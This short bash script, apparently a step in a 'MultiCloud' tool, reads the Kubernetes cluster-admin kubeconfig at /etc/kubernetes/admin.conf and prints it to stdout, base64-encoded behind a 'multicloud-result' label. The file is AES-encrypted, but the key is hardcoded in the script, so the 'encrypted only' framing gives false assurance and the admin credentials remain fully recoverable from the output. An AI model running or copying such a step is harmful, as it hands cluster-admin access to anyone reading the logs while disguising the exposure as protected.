# MultiCloud: read /etc/kubernetes/admin.conf (printed encrypted only)
set -euo pipefail
report() { printf 'multicloud-result: %s=%s\n' "$1" "$2"; }
file='/etc/kubernetes/admin.conf'
if [ ! -s "$file" ]; then echo "$file is missing or empty" >&2; exit 3; fi
wrapped=$(MC_WRAP='00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff' openssl enc -aes-256-cbc -pbkdf2 -iter 100000 -md sha256 -salt -pass env:MC_WRAP -in "$file" | base64 -w0)
report wrapped "$wrapped"
